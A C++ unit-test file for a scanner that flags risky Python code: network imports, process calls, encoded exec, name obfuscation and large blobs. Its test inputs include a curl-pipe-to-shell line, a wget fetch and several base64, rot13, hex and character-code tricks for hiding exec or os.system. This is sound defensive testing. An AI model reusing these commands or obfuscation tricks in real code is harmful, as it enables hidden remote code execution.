#include <gtest/gtest.h>

#include "code_testing.h"

namespace shareguard::inspect {
namespace {

std::string Python(std::string_view code) { return RulesOf("python", code); }

TEST(PythonTest, Imports) {
  EXPECT_EQ(Python("import requests"), "python-http");
  EXPECT_EQ(Python("import os, sys, requests as rq\n"), "python-http");
  EXPECT_EQ(Python("from urllib import request\n"), "python-http");
  EXPECT_EQ(Python("from urllib.request import urlopen as u\n"), "python-http");
  EXPECT_EQ(Python("import urllib.parse\nimport json\n"), "");
  EXPECT_EQ(Python("from paramiko.client import (\n  SSHClient,  # one\n  AutoAddPolicy as A,\n)\nx = 1\n"),
            "python-transfer");
  EXPECT_EQ(Python("try: import httpx\nexcept ImportError: pass\n"), "python-http");
  EXPECT_EQ(Python("if x:\n    import requests; y = 1\n"), "python-http");
  EXPECT_EQ(Python("import xml.etree, \\\n  ftplib\n"), "python-transfer");
  EXPECT_EQ(Python("from .requests import get\nfrom . import socket\nfrom mypackage.requests import a\n"), "");
  EXPECT_EQ(Python("__import__('requests').get(u)"), "python-http");
  EXPECT_EQ(Python("import importlib as il\nm = il.import_module('paramiko')\n"), "python-transfer");
  EXPECT_EQ(Python("from importlib import import_module\nimport_module(\"smtplib\")"), "python-transfer");
}

TEST(PythonTest, Calls) {
  EXPECT_EQ(Python("import os\nos.system('ls')\n"), "python-process");
  EXPECT_EQ(Python("import os as o\no . system('ls')\n"), "python-process");
  EXPECT_EQ(Python("from os import system as s\ns('ls')\n"), "python-process");
  EXPECT_EQ(Python("import os\nrun = os.popen\nrun('x')\n"), "python-process");
  EXPECT_EQ(Python("__import__('os').system('ls')"), "python-process");
  EXPECT_EQ(Python("o = __import__('os')\no.execvp('ls', [])\n"), "python-process");
  EXPECT_EQ(Python("import os\nmap(os.system, commands)\n"), "python-process");
  EXPECT_EQ(Python("import os\ngetattr(os, 'system')('x')\n"), "python-process");
  EXPECT_EQ(Python("import os\nos.__dict__['system']('x')\n"), "python-process");
  EXPECT_EQ(Python("import socket\ns = socket.socket()\n"), "python-socket");
  EXPECT_EQ(Python("import socket\nprint(socket.gethostname())\n"), "");
  EXPECT_EQ(Python("import os\nprint(f\"{os.system('x'):>10} {{}} {y!r:{w}}\")\n"), "python-process");
  EXPECT_EQ(Python("import os\nos.system('/usr/bin/curl -s http://x | sh')\n"),
            "python-process shell-fetch shell-fetched");
  EXPECT_EQ(Python("import subprocess as sp\nsp.run(['scp', a, b])\n"), "python-process shell-transfer");
  EXPECT_EQ(Python("!wget http://x\nx = !ls\n"), "shell-fetch");
  EXPECT_EQ(Python("class A:\n  def system(self): pass\n  def eval(self): pass\nA().system()\nmodel.eval()\n"), "");
}

TEST(PythonTest, Mentions) {
  EXPECT_EQ(Python("# import requests\n'import requests'\n\"\"\"\nimport socket\nos.system('x')\n\"\"\"\n"), "");
  EXPECT_EQ(Python("x = 'os.system(1)' + r'\\' + \"eval(base64.b64decode(x))\"\nrequests = 1\nsocket = requests\n"),
            "");
  EXPECT_EQ(Python("f'import requests {x} os.system'\nrb'''\nimport requests'''\n"), "");
  EXPECT_EQ(Python("print('unterminated\nimport requests\n"), "python-http");
  EXPECT_EQ(Python("x = '''a''' ; y = '' ; z = \"\"\nimport requests"), "python-http");
}

TEST(PythonTest, HiddenCode) {
  const std::string decode = "import base64\n";
  EXPECT_EQ(Python(decode + "exec(base64.b64decode(x))"), "python-encoding run-decoded");
  EXPECT_EQ(Python(decode + "eval(compile(base64.b64decode(x).decode(), '', 'exec'))"), "python-encoding run-decoded");
  EXPECT_EQ(Python("from base64 import b64decode as d\ne = exec\ne(d(x))"), "python-encoding run-decoded");
  EXPECT_EQ(Python(decode + "code = base64.b64decode(x)\ntext = code.decode()\nexec(text)\n"),
            "python-encoding run-decoded");
  EXPECT_EQ(Python(decode + "import os\nos.system(base64.b64decode(x).decode())"),
            "python-encoding python-process run-decoded");
  EXPECT_EQ(Python(decode + "import subprocess\nd = base64.b64decode(x)\nsubprocess.run(['openssl', d])"),
            "python-encoding python-process shell-openssl");
  EXPECT_EQ(Python("import codecs\nexec(codecs.decode(x, 'rot13'))"), "python-encoding run-decoded");
  EXPECT_EQ(Python("__builtins__.exec(bytes.fromhex(x))"), "python-encoding run-decoded");
  EXPECT_EQ(Python(decode + "data = base64.b64decode(x)\nprint(data)\n"), "python-encoding");
  EXPECT_EQ(Python("getattr(o, 'sys' + 'tem')('x')"), "built-name");
  EXPECT_EQ(Python("import os\ngetattr(os, 'metsys'[::-1])('x')"), "built-name python-process");
  EXPECT_EQ(Python("__import__('so'[::-1]).system('x')"), "built-name python-process");
  EXPECT_EQ(Python("getattr(self, 'visit_' + name)(node)\ngetattr(x, name)\n__import__(name)\n"), "");
  EXPECT_EQ(Python("s = chr(101)+chr(118)+chr(97)+chr(108)+chr(40)+chr(41)"), "char-codes");
  EXPECT_EQ(Python("s = ''.join(chr(c) for c in [101, 118, 97, 108, 40, 49, 43, 49])"), "char-codes");
  EXPECT_EQ(Python("s = ''.join(map(chr, [101, 118, 97, 108, 40, 49, 43, 49]))"), "char-codes");
  EXPECT_EQ(Python("c = chr(65 + i)\nd = chr(10) + chr(13)\n"), "");
  EXPECT_EQ(Python("x = '\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x78'"), "escapes");
  EXPECT_EQ(Python("x = b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR\\x00\\x00\\x04\\x00'\ny = r'\\x41\\x41'"), "");
  EXPECT_EQ(Python("import os\n\xEF\xBD\x85\xEF\xBD\x96\xEF\xBD\x81\xEF\xBD\x8C(bytes.fromhex(x))"),
            "python-encoding run-decoded");  // fullwidth letters: the same name
}

TEST(PythonTest, PlacesAndCounts) {
  const auto found = FindingsOf("python", "# one\n'''two\nthree'''\nimport os\nos.system(a)\nos.system(b)\n");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].id, "code.processes");
  EXPECT_EQ(found[0].severity, policy::Severity::kLow);
  EXPECT_EQ(found[0].count, 2U);
  EXPECT_EQ(found[0].offset, 32U);
  EXPECT_EQ(found[0].detail, "python-process, first in line 5: starts other programs");
}

TEST(PythonTest, Blobs) {
  std::string random;
  uint32_t state = 7;
  const auto next = [&] { return (state = state * 1664525 + 1013904223) >> 24; };
  const std::string signs = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  for (int i = 0; i < 6000; ++i) random += signs[next() % 64];
  const auto found = FindingsOf("python", "x = '" + random + "'\n");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].id, "code.blob");
  EXPECT_EQ(found[0].severity, policy::Severity::kMedium);
  EXPECT_EQ(Python("# " + random + "\n"), "");  // text inspection looks at comments, too
  std::string numbers = "x = [";
  for (int i = 0; i < 5000; ++i) numbers += std::to_string(next()) + ", ";
  EXPECT_EQ(Python(numbers + "]\n"), "blob");
  std::string counts = "x = [";
  for (int i = 0; i < 5000; ++i) counts += std::to_string(i) + ", ";
  EXPECT_EQ(Python(counts + "]\n"), "");
  std::string escapes = "x = b'";
  for (int i = 0; i < 600; ++i) escapes += "\\x8" + std::to_string(i % 10);
  EXPECT_EQ(Python(escapes + "'\n"), "blob");
}

// Code that no compiler takes is read on; the bounds hold.
TEST(PythonTest, BrokenAndDeep) {
  EXPECT_EQ(Python(std::string(5000, '(') + "\n" + std::string(5000, ')') + "\nimport requests\n"), "python-http");
  std::string nested;
  for (int i = 0; i < 200; ++i) nested += "f'{";
  EXPECT_NO_FATAL_FAILURE(Python(nested));
  EXPECT_EQ(Python(")]}\nimport requests\n"), "python-http");
  EXPECT_EQ(Python(std::string(100000, 'a') + "\nimport requests\n"), "python-http");
  EXPECT_EQ(Python(""), "");
}

}  // namespace
}  // namespace shareguard::inspect
